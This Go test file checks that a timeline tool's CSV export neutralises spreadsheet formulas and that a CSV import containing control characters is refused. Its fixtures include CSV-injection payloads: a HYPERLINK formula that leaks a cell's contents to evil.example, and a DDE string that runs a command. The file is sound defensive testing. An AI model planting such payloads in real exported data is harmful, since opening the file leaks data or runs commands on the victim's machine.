package formats_test

import (
	"context"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"

	"github.com/factline/factline/models"
	"github.com/factline/factline/models/edtf"
	"github.com/factline/factline/models/formats"
	"github.com/factline/factline/models/formats/formatstest"
	"github.com/factline/factline/models/formats/importers"
	"github.com/factline/factline/models/storage"
)

// TestCSVExportNeutralisesFormulasAndImportUndoesIt exports headlines that a
// spreadsheet would run as formulas: no exported cell starts with = + - @ tab
// or CR (plain numbers aside), and importing the export gives back the text.
func TestCSVExportNeutralisesFormulasAndImportUndoesIt(t *testing.T) {
	store := storage.NewTestStore(t, nil)
	titles := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1:A9)", "'=already quoted", "'plain quote", "Plain headline"}
	var refs []models.Ref
	for _, title := range titles {
		e := storage.MakeEvent(t, store, title, "2022-09-01")
		refs = append(refs, models.Ref{Kind: models.KindEvent, ID: e.ID})
	}
	described := &models.Event{Title: "Described", Description: "=1+1 in the text", Occurred: edtf.MustParse("2022-09-03")}
	if err := store.SaveEvent(context.Background(), described); err != nil {
		t.Fatal(err)
	}
	refs = append(refs, models.Ref{Kind: models.KindEvent, ID: described.ID})
	speaker := storage.MakeActor(t, store, "=cmd|' /C calc'!A0")
	c := storage.MakeClaim(t, store, speaker, "-1 said nothing", "2022-09-02")
	refs = append(refs, models.Ref{Kind: models.KindClaim, ID: c.ID})
	tl := storage.MakeTimeline(t, store, "formulas", refs...)

	out := formatstest.ExportString(t, store, tl, "csv")
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	number := regexp.MustCompile(`^[+-]?[0-9]+$`)
	for r, row := range rows {
		for col, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && !number.MatchString(cell) {
				t.Errorf("row %d, column %q: %q would run as a formula", r+1, rows[0][col], cell)
			}
		}
	}

	other := storage.NewTestStore(t, nil)
	back := formatstest.ImportString(t, other, out, "formulas.csv", "")
	lt, err := other.LoadTimeline(models.AsSystem(context.Background()), back.Slug)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, it := range lt.Items {
		got[it.Title] = true
		if it.Title == "Described" && it.Description != described.Description {
			t.Errorf("description came back as %q", it.Description)
		}
	}
	for _, title := range append(titles, "-1 said nothing") {
		if !got[title] {
			t.Errorf("%q did not come back from the import; got %v", title, got)
		}
	}
	if again := formatstest.ExportString(t, other, back, "csv"); again != out {
		t.Errorf("export(import(export)) differs:\n%s\n---\n%s", out, again)
	}
}

// TestImportRefusesControlCharacters imports a CSV whose headline holds a
// control character: the import is refused naming the row and field, and
// nothing is stored.
func TestImportRefusesControlCharacters(t *testing.T) {
	text := strings.Join(formats.TimelineJSColumns, ",") + "\n" +
		"2022,8,31,,,,,,,Fine headline,,,,,,,,,\n" +
		"2022,9,1,,,,,,,Bad\x01 headline,,,,,,,,,\n"
	store := storage.NewTestStore(t, nil)
	ctx := models.AsSystem(context.Background())
	doc, format, err := importers.Read(strings.NewReader(text), "sheet.csv")
	if err == nil {
		var plan *formats.Plan
		if plan, err = formats.NewPlan(ctx, store, doc, format, ""); err == nil {
			_, err = plan.Apply(ctx, store, nil, nil)
		}
	}
	if err == nil || !strings.Contains(err.Error(), "row 3") || !strings.Contains(err.Error(), "control character") {
		t.Errorf("import: %v, want a refusal naming row 3 and the control character", err)
	}
	ts, err := store.As(storage.Viewer{System: true}).ListTimelines(ctx, 10)
	if err != nil {
		t.Fatal(err)
	}
	if len(ts) != 0 {
		t.Errorf("%d timelines stored", len(ts))
	}
}
